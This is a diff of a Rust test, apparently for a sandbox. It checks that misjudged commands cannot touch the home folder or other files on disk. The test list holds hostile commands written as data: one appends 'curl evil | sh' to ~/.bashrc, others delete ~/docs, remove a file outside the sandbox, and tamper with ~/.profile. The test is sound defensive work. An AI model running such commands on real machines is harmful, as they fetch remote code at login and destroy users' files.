@@ -231,11 +231,13 @@ fn a_misjudged_command_leaves_the_home_folder_and_the_rest_of_the_disk_as_they_w
     let outside_before = snapshot(outside.path());
     let o = outside.path().display().to_string();
     let commands = [
-        "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\"".to_owned(),
-        "python3 -c \"import os; open(os.path.expanduser('~/new-file'), 'w').write('x')\"".to_owned(),
+        WRITE_BASHRC.to_owned(),
+        "python3 -c \"import os; open(os.path.expanduser('~/new-file'), 'w').write('x')\""
+            .to_owned(),
         "python3 -c \"import os, shutil; shutil.rmtree(os.path.expanduser('~/docs'))\"".to_owned(),
         format!("python3 -c \"import os; os.remove('{o}/keep.txt')\""),
-        "python3 -c \"import os; os.system('echo pwned >> $HOME/.profile; rm -rf $HOME/docs')\"".to_owned(),
+        "python3 -c \"import os; os.system('echo pwned >> $HOME/.profile; rm -rf $HOME/docs')\""
+            .to_owned(),
     ];
     let runs = s.run(
         &commands
